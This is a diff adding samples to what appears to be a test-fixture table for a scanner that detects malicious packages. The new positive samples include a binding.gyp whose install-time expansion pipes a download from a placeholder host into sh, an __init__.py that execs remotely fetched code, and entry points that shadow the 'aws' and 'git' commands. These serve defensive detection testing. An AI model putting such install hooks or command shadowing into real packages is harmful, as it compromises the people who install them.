@@ -139,6 +139,11 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
     "malicious-download-exec": {
         "positive": [
             {
+                # node-gyp runs binding.gyp's <!(…) expansions on install
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+                "binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!@(curl -s https://p.example.invalid/x | sh)"]}]}',
+            },
+            {
                 "x/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/s').read())\n"
             },
             {
@@ -155,6 +160,13 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
             },
         ],
         "benign": [
+            {
+                "package.json": '{"name": "x", "version": "1.0.0"}',
+                "binding.gyp": (
+                    '{"targets": [{"target_name": "a", '
+                    '"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}'
+                ),
+            },
             {
                 # installers start msiexec on what they downloaded earlier: a launch, not a pipe into a shell
                 "bin/reinstall_win.ps1": (
@@ -574,6 +586,22 @@ SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
                 )
             },
             {"x/docs.py": "HELP = 'Discord clients keep settings under discord/settings.json'\n"},
+        ],
+    },
+    "malicious-command-shadowing": {
+        "positive": [
+            {
+                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\naws = x.wrap:main\nx = x.cli:main\n",
+                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
+            },
+            {"package.json": '{"name": "git-helper", "version": "1.0.0", "bin": {"git": "wrap.js"}}', "wrap.js": "1\n"},
+        ],
+        "benign": [
+            {"package.json": '{"name": "corepack", "version": "1.0.0", "bin": {"yarn": "y.js", "pnpm": "p.js"}}'},
+            {
+                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\nx-aws = x.cli:main\n[x.plugins]\npip = x.p\n",
+                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
+            },
         ],
     },
     "malicious-silent-process": {
